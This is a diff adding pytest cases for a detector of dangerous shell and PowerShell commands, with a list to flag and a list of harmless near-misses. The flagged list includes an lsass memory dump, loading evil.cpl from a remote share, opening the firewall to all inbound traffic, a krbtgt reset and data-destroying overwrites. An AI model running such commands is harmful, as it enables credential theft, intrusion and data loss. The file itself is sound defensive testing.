@@ -172,3 +172,46 @@ def test_windows_administration(command, at_least):
 ])
 def test_windows_everyday_administration_stays_quiet(command):
     quiet(command)
+
+
+# ----------------------------------------------------------------- a second set, written after the first landing
+@pytest.mark.parametrize("command", [
+    "mogrify -quality 30 -path . *.jpg",
+    "gm mogrify -resize 640x480 *.JPG",
+    "cwebp -q 10 photo.jpg -o photo.jpg",
+    "ffmpeg -y -i song.flac -b:a 64k song.flac",
+    "pngcrush -ow -rem allb *.png",
+    "flac --delete-input-file *.wav",
+    "lame --delete-input-file -V 9 *.wav",
+    "mat2 --inplace ~/Documents/*.pdf",
+    "mmv -d '*.jpeg' '#1.jpg'",
+    "rmlint -g && sh rmlint.sh -d -x",
+    "tar -xvf backup.tar -C ~",
+    "unrar e -o+ docs.rar ~/Documents",
+    "svn revert --depth infinity .",
+    "got revert -R .",
+    "cat old-budget.xlsx > budget.xlsx",
+    "rundll32 shell32.dll,Control_RunDLL \\\\host\\share\\evil.cpl",
+    "Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\\Users\\Public",
+    "Stop-ClusterResource 'SQL Server'",
+    "Set-NetFirewallProfile -Profile Domain,Public,Private -DefaultInboundAction Allow",
+    "Set-ADAccountPassword -Identity krbtgt -Reset",
+])
+def test_second_set_of_forms(command):
+    flagged(command)
+
+
+@pytest.mark.parametrize("command", [
+    "mogrify -quality 80 -path ../small *.jpg",
+    "cwebp -q 80 photo.jpg -o photo.webp",
+    "ffmpeg -i song.flac song.mp3",
+    "flac *.wav",
+    "pngcrush in.png out.png",
+    "mat2 report.pdf",
+    "mmv '*.jpeg' '#1.jpg'",
+    "sh rmlint.sh -n",
+    "Suspend-ClusterNode -Name node2 -Drain",
+    "Get-ClusterResource",
+])
+def test_second_set_near_misses_stay_quiet(command):
+    quiet(command)
